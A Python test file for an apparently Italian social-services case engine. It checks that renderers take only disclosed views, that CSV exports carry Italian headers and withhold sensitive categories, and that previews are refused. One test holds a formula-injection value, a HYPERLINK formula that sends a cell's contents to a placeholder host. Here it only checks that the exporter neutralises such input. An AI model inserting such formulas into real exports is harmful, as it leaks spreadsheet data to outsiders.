"""
The faces read only views (issue 12): the public layouts, the registered renderers and the
plugins' document builders take a :class:`View`, never a raw ``Result`` or ``Case`` to
lay out; the CSV for spreadsheets opens with Italian headers.
"""

from __future__ import annotations

import csv
import datetime as dt
import inspect
import io
import json
import re
import typing
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import attrs
import pytest

import inclusione_core
import inclusione_prato
import inclusione_sil
from inclusione_core import Case, Engine, Purpose, Recipient, Result, View, render
from inclusione_core.cli import main

ROOT = Path(__file__).resolve().parents[1]
AS_OF = dt.date(2025, 4, 15)
AT = dt.datetime(2025, 4, 15, 9, 0, tzinfo=dt.UTC)


def _mentions(annotation: Any, *names: str) -> bool:
    """Whether a parameter's annotation (a string: the modules defer them) names one of the types."""
    text = annotation if isinstance(annotation, str) else getattr(annotation, "__name__", repr(annotation))
    return any(re.search(rf"\b{name}\b", text) for name in names)


def _parameters(func: Callable[..., Any]) -> dict[str, Any]:
    """Each parameter's annotation, as written (``return`` left out)."""
    notes = inspect.get_annotations(inspect.unwrap(getattr(func, "__func__", func)))
    return {name: note for name, note in notes.items() if name != "return"}


def _layouts() -> Iterator[tuple[str, Callable[..., Any]]]:
    for name in render.__all__:
        obj = getattr(render, name)
        if inspect.isfunction(obj):
            yield f"render.{name}", obj


def _renderer_methods(engine: Engine) -> Iterator[tuple[str, Callable[..., Any]]]:
    for name, info in engine.renderers().items():
        renderer = info.factory(io.StringIO(), "it")
        yield f"renderer {name}.view", renderer.view


def _document_builders() -> Iterator[tuple[str, Callable[..., Any]]]:
    yield "inclusione_prato.build_scheda_invio", inclusione_prato.build_scheda_invio
    yield "inclusione_prato.build_elenco_nominativo", inclusione_prato.build_elenco_nominativo
    yield "inclusione_sil.Notification.send", inclusione_sil.Notification.send


def test_no_public_layout_or_renderer_takes_a_result_or_a_case() -> None:
    """Every public layout and every registered renderer is typed to take a View, never a Result or a Case."""
    engine = Engine()
    walked = [*_layouts(), *_renderer_methods(engine)]
    assert len(walked) >= 8 + len(engine.renderers())  # the walk found what it should
    offenders = [(where, name) for where, func in walked for name, kind in _parameters(func).items()
                 if _mentions(kind, "Result", "Case")]
    assert offenders == []
    takes_a_view = [where for where, func in walked if any(_mentions(k, "View") for k in _parameters(func).values())]
    assert {w for w, _f in _renderer_methods(engine)} <= set(takes_a_view)
    assert {"render.result_text", "render.view_text", "render.view_report"} <= set(takes_a_view)


def test_no_document_builder_takes_a_result() -> None:
    """The plugins' document builders take a case to disclose (through the engine), never a raw Result."""
    for where, func in _document_builders():
        assert not any(_mentions(k, "Result") for k in _parameters(func).values()), where


@pytest.fixture(scope="module")
def prato_result() -> tuple[Engine, Case, Result]:
    engine = Engine(clock=lambda: AT)
    data = json.loads((ROOT / "territories/prato/examples/dipendenze_e_lavoro.json").read_text(encoding="utf-8"))
    case = engine.load_case(data)
    return engine, case, engine.assess(case, as_of=AS_OF)


def test_a_raw_result_or_case_handed_to_a_face_is_refused(prato_result: tuple[Engine, Case, Result]) -> None:
    """Called with a raw Result or Case anyway (Python does not check types), each face refuses with TypeError."""
    engine, case, result = prato_result
    faces: list[tuple[str, Callable[[Any], Any]]] = [
        ("result_text", render.result_text), ("view_text", render.view_text), ("view_report", render.view_report),
    ]
    for name, info in engine.renderers().items():
        faces.append((name, lambda obj, f=info.factory: f(io.StringIO(), "it").view(obj, None)))
    for raw in (result, case):
        for name, face in faces:
            with pytest.raises(TypeError, match="View"):
                face(raw)
            assert name  # named in the failure report above
    # and the same faces accept the view of that result
    view = engine.disclose_result(result, case, recipient="cpi", purpose=Purpose.EQUIPE)
    for _name, face in faces:
        face(view)


def test_a_csv_of_ten_cases_for_the_cpi_opens_in_a_spreadsheet_with_italian_headers(
    tmp_path: Path, capsysbinary: pytest.CaptureFixture[bytes], monkeypatch: pytest.MonkeyPatch,
) -> None:
    """
    ``inclusione assess --recipient cpi --format csv`` on ten cases: UTF-8 with a byte order
    mark, ``;`` between cells, a header row in Italian and one row per case, the special
    categories not leaking into any cell.
    """
    monkeypatch.setattr("inclusione_core._engine._utcnow", lambda: AT)
    examples = sorted((ROOT / "territories/prato/examples").glob("*.json"))
    cases = []
    for i in range(10):
        data = json.loads(examples[i % len(examples)].read_text(encoding="utf-8"))
        data["id"] = f"PO-{i:02d}"
        cases.append(json.dumps(data))
    batch = tmp_path / "casi.jsonl"
    batch.write_text("\n".join(cases) + "\n", encoding="utf-8")
    code = main(["assess", str(batch), "--as-of", AS_OF.isoformat(), "--recipient", "cpi", "--format", "csv"])
    raw = capsysbinary.readouterr().out
    assert code == 0
    assert raw.startswith("\ufeff".encode())  # Excel reads UTF-8 only with the BOM
    text = raw.decode("utf-8-sig")
    assert "\r\n" in text  # RFC 4180 line ends
    rows = list(csv.reader(io.StringIO(text, newline=""), delimiter=";"))
    header, body = rows[0], rows[1:]
    assert header[:6] == ["caso", "territorio", "data di riferimento", "destinatario", "finalità", "occupabilità"]
    assert "categorie non comunicate" in header
    assert [r[0] for r in body] == [f"PO-{i:02d}" for i in range(10)]
    assert all(len(r) == len(header) for r in body)
    assert all(r[3] == "Centro per l'Impiego" for r in body)  # the recipient by its label
    # the categories not disclosed are those the recipient may never receive: the same on every row
    static = header.index("categorie non comunicate")
    assert len({r[static] for r in body}) == 1
    assert not any("serd" in cell.lower() or "dipendenz" in cell.lower()
                   for r in body for i, cell in enumerate(r) if i != static)


def test_a_csv_cell_never_starts_a_formula(prato_result: tuple[Engine, Case, Result]) -> None:
    """A value starting with ``=``, ``+``, ``-`` or ``@`` is written as text, so a spreadsheet never runs it."""
    engine, case, result = prato_result
    view = engine.disclose_result(result, case, recipient=Recipient(kind="cpi"), purpose=Purpose.EQUIPE)
    assert view.result is not None
    hostile = '=HYPERLINK("http://x.example/?"&A1)'  # ids are validated; a renderer defends anyway
    view = attrs.evolve(view, result=attrs.evolve(view.result, case_id=hostile))
    out = io.StringIO()
    renderer = engine.renderer("csv", out)
    renderer.view(view, engine.territory("prato"))
    renderer.close()
    [_header, row] = list(csv.reader(io.StringIO(out.getvalue().lstrip("\ufeff"), newline=""), delimiter=";"))
    assert row[0] == "'" + hostile
    assert row[1] == "prato"


def test_the_public_api_names_the_view_as_the_exit() -> None:
    """The exits for a recipient are the engine's disclose_* methods, and each returns a View."""
    for name in ("disclose_case", "disclose_result", "disclose_document"):
        method = getattr(inclusione_core.Engine, name)
        assert typing.get_type_hints(method)["return"] is View


def test_a_preview_is_never_laid_out_nor_serialised(prato_result: tuple[Engine, Case, Result]) -> None:
    """A preview (for building a document, not audited) is refused by every face and by View.to_json."""
    engine, case, result = prato_result
    preview = engine.preview_result(result, case, recipient="cpi", purpose=Purpose.EQUIPE)
    disclosed = engine.disclose_result(result, case, recipient="cpi", purpose=Purpose.EQUIPE)
    assert preview.preview and not disclosed.preview
    assert preview.data == disclosed.data  # the same filtering
    with pytest.raises(TypeError, match="preview"):
        preview.to_json()
    for name, info in engine.renderers().items():
        with pytest.raises(TypeError, match="preview"):
            info.factory(io.StringIO(), "it").view(preview, None)
        assert name
    for face in (render.result_text, render.view_text, render.view_report):
        with pytest.raises(TypeError, match="preview"):
            face(preview)
